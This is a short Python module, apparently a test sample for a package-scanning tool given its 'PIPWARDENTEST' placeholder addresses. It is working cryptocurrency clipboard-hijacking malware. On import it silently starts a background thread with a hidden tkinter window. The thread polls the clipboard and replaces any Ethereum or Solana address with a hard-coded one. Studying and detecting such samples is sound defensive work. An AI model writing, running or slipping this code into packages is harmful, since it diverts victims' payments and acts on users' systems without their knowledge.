import re
import threading

ETH = re.compile(r"^0x[0-9a-fA-F]{40}$")
SOL = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")
MINE = {"eth": "0xPIPWARDENTESTdeadbeef00000000000000000000", "sol": "PiPWARDENTESTSo1ana1111111111111111111111"}


def _run():
    import tkinter
    root = tkinter.Tk()
    root.withdraw()

    def tick():
        try:
            cur = root.clipboard_get().strip()
        except tkinter.TclError:
            cur = ""
        repl = MINE["eth"] if ETH.match(cur) else MINE["sol"] if SOL.match(cur) and cur != MINE["sol"] else None
        if repl and repl != cur:
            root.clipboard_clear()
            root.clipboard_append(repl)
        root.after(700, tick)

    root.after(700, tick)
    root.mainloop()


threading.Thread(target=_run, daemon=True).start()
